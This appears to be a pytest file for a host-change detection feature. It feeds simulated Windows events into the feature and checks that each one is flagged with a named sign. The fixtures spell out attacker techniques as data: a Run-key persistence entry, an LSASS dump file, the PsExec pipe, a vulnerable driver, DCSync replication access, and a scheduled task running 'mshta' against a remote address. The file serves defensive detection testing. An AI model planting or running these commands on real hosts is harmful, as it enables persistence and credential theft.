from __future__ import annotations

import pytest

from vedette.events.schema import EventClass
from vedette.features.host_change import HostChange
from vedette.features.host_change_signs import SIGNS
from vedette.testing.commands import happened
from vedette.testing.rows import rows_of

BY = "actor.process.file.path"
SYSMON, SECURITY = "Microsoft-Windows-Sysmon", "Microsoft-Windows-Security-Auditing"


@pytest.mark.parametrize(
    ("kind", "values", "what", "sign"),
    [
        (
            EventClass.REGISTRY_VALUE_ACTIVITY,
            {
                "reg_value.path": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "reg_value.data": "C:\\Users\\Public\\a.exe",
            },
            "registry",
            "run_key_hostile",
        ),
        (
            EventClass.REGISTRY_KEY_ACTIVITY,
            {"metadata.event_code": "12", "reg_key.path": "HKLM\\SYSTEM\\Control\\MiniNt"},
            "registry",
            "logging_off",
        ),
        (EventClass.FILE_ACTIVITY, {"file.path": "C:\\Temp\\lsass.dmp", BY: "C:\\a.exe"}, "file", "lsass_file"),
        (EventClass.FILE_ACTIVITY, {"file.type_id": 6, "file.name": "\\PSEXESVC"}, "pipe", "tool_pipe"),
        (
            EventClass.MODULE_ACTIVITY,
            {"module.file.path": "C:\\Windows\\System32\\scrobj.dll", BY: "C:\\Windows\\System32\\regsvr32.exe"},
            "module",
            "script_in_host",
        ),
        (
            EventClass.KERNEL_EXTENSION_ACTIVITY,
            {"driver.file.path": "C:\\Users\\Public\\RTCore64.sys"},
            "driver",
            "known_driver",
        ),
        (
            EventClass.WINDOWS_SERVICE_ACTIVITY,
            {"win_service.name": "x", "win_service.cmd_line": "cmd /c echo a > \\\\.\\pipe\\a"},
            "service",
            "service_command",
        ),
        (
            EventClass.SCHEDULED_JOB_ACTIVITY,
            {"activity_id": 1, "job.name": "\\x", "job.cmd_line": "mshta http://192.0.2.7"},
            "task",
            "task_command",
        ),
        (
            EventClass.EVENT_LOG,
            {
                "metadata.event_code": "20",
                "metadata.log_provider": SYSMON,
                "unmapped.Name": "a",
                "unmapped.Destination": "cmd",
            },
            "wmi",
            "wmi_subscription",
        ),
        (
            EventClass.EVENT_LOG,
            {
                "metadata.event_code": "5145",
                "metadata.log_provider": SECURITY,
                "unmapped.ShareName": "\\\\*\\IPC$",
                "unmapped.RelativeTargetName": "svcctl",
            },
            "share",
            "share_pipe",
        ),
        (
            EventClass.EVENT_LOG,
            {
                "metadata.event_code": "4662",
                "metadata.log_provider": SECURITY,
                "unmapped.Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
                "unmapped.SubjectUserName": "eve",
            },
            "directory",
            "replication",
        ),
        (
            EventClass.EVENT_LOG,
            {"metadata.event_code": "4794", "metadata.log_provider": SECURITY},
            "log",
            "restore_password",
        ),
        (
            EventClass.HOST_CONNECTION,
            {"dst_endpoint.ip": "127.0.0.1", "dst_endpoint.port": 3389, BY: "C:\\a.exe"},
            "connection",
            "loopback_desktop",
        ),
    ],
)
def test_every_class_is_read(kind: EventClass, values: dict[str, object], what: str, sign: str) -> None:
    rows = rows_of(HostChange, happened(kind, values))
    assert rows["what"].to_list() == [what]
    assert sign in {SIGNS[i].name for i in rows["signs"].to_list()[0]}
    assert rows["host"].to_list() == ["ws1"]
    assert rows["told"].null_count() == 0


def test_what_holds_no_sign_is_no_row() -> None:
    quiet = happened(EventClass.FILE_ACTIVITY, {"file.path": "C:\\Users\\ann\\Documents\\plan.docx"})
    other = happened(EventClass.EVENT_LOG, {"metadata.event_code": "6005", "metadata.log_provider": "EventLog"})
    assert rows_of(HostChange, quiet, other).is_empty()


def test_a_file_that_is_only_read_is_no_change() -> None:
    read = happened(EventClass.FILE_ACTIVITY, {"metadata.event_code": "4663", "file.path": "C:\\Temp\\lsass.dmp"})
    assert rows_of(HostChange, read).is_empty()
